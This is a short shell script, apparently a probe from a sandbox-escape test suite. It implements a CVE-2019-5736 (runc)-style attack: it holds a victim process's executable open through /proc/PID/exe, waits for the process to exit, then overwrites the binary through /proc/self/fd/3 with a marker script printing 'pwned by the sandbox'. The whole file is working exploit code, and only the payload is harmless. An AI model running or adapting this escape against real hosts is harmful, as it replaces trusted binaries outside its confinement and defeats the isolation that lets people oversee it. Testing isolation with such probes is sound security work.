#!/bin/sh
# proc-exe-overwrite: CVE-2019-5736 (runc) style, in shell: keep the
# victim's program open through /proc/PID/exe (reading a running program is
# allowed), wait for it to exit, then write through /proc/self/fd/3, which
# reopens the same file for writing.
. "${TARGETS:-$1}"
# (`command` keeps a failed redirection from ending the shell)
if command exec 3< "/proc/$T_VICTIM_PID/exe"; then
	i=0
	until printf '#!/bin/sh\necho pwned by the sandbox\n' 2>/dev/null > /proc/self/fd/3; do
		i=$((i + 1))
		[ $i -ge 50 ] && { echo "the victim is still running"; break; }
		sleep 0.1
	done
	exec 3<&-
fi
